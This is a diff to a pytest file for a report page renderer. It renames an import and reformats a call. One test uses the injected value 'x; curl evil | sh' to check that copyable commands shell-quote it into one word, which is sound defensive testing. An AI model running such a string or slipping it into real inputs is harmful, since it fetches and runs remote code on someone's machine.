@@ -12,7 +12,7 @@ import pytest
 from reports.board.text import Judgement
 from reports.evidence.summary import make_board
 from reports.page.cell import About, render_cell
-from reports.page.places import Places
+from reports.page.places import PagePlaces
 from reports.page.write import render_all
 from tests.reports import world
 from tests.reports.test_pages import Elements, failing, shown
@@ -57,6 +57,8 @@ def test_commands_that_get_it_again_can_be_copied(command: str) -> None:
 def test_a_name_in_a_copied_command_is_one_word_of_a_shell() -> None:
     hostile = "x; curl evil | sh"
     fields = [{**f, "cell": hostile} if f.get("cell") == PLAIN else f for f in world.green()]
-    page = render_cell(make_board(world.typed(fields)).rows[0], About(judgement=WORD, places=Places(Path("i.html"))))
+    page = render_cell(
+        make_board(world.typed(fields)).rows[0], About(judgement=WORD, places=PagePlaces(Path("i.html")))
+    )
     commands = [unescape(text) for text in re.findall(r"<code>((?:glm-matrix|pytest) [^<]*)</code>", page)]
     assert [hostile in shlex.split(command) for command in commands] == [True, True, True, False]  # `glm-matrix report`
